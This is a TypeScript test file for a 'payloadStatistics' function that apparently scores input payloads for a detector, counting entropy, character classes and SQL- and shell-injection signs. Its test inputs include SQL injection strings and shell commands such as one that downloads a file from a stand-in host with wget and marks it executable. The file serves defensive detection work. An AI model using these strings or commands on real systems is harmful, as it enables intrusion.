import fc from 'fast-check';
import { describe, expect, it } from 'vitest';
import { parsePythonLiteral, payloadStatistics, pythonRepr } from '#src/data/index.js';
import { pythonValue } from './python-values.js';

const statistics = (text: string) => payloadStatistics(text, parsePythonLiteral(text));

describe('payloadStatistics', () => {
  it('counts the characters of the raw text', () => {
    expect(statistics(`{'User': 'a1 é😀', "x": ['', [], None]}`)).toEqual({
      length: 38,
      entropy: expect.closeTo(4.111698692943855, 12),
      digits: 1,
      letters: 10,
      uppercase: 2,
      spaces: 6,
      specials: 19,
      quotes: 8,
      nonAscii: 3,
      keys: 2,
      maxValueLength: 6,
      totalValueLength: 6,
      sqlSigns: 0,
      shellSigns: 0,
      emptyValues: 3,
    });
  });

  it('is all zeros for an empty text', () => {
    expect(Object.values(payloadStatistics('', null))).toEqual(new Array(15).fill(0));
  });

  it('has an entropy of 1 bit for two characters in equal number', () => {
    expect(payloadStatistics("''11", null).entropy).toBe(1);
    expect(payloadStatistics('éé11', null).entropy).toBe(1);
  });

  it.each([
    ["{'q': \"' OR '1'='1\"}", 1, 0],
    ["{'q': \"' or 1=1 --\"}", 2, 0],
    ["{'q': '1 UNION SELECT a FROM b'}", 2, 0],
    ["{'c': 'cd /tmp/; wget http://x/y && chmod 777 y'}", 0, 4],
    ["{'c': 'echo $(id) | sh'}", 0, 3],
    ["{'command': 'USER', 'arg': 'oracle'}", 0, 0],
    ["{'username': 'selection', 'x': 'wgets'}", 0, 0],
  ])('finds the signs of %s', (text, sqlSigns, shellSigns) => {
    expect(statistics(text)).toMatchObject({ sqlSigns, shellSigns });
  });

  it('keeps its counts consistent for any payload', () => {
    fc.assert(
      fc.property(pythonValue, (value) => {
        const text = pythonRepr(value);
        const s = payloadStatistics(text, value);
        expect(s.length).toBe([...text].length);
        expect(s.digits + s.letters + s.spaces + s.specials + s.nonAscii).toBe(text.length);
        expect(s.entropy).toBeGreaterThanOrEqual(0);
        expect(s.entropy).toBeLessThanOrEqual(Math.log2(text.length) + 1e-9);
        expect(s.maxValueLength).toBeLessThanOrEqual(s.totalValueLength);
      }),
      { numRuns: 200 },
    );
  });

  it('takes time in line with the length of hostile text', () => {
    for (const hostile of [
      "' or ".repeat(100_000),
      '$('.repeat(200_000),
      '-'.repeat(500_000),
      'or '.repeat(150_000),
    ])
      expect(payloadStatistics(hostile, null).length).toBe(hostile.length);
  });
});
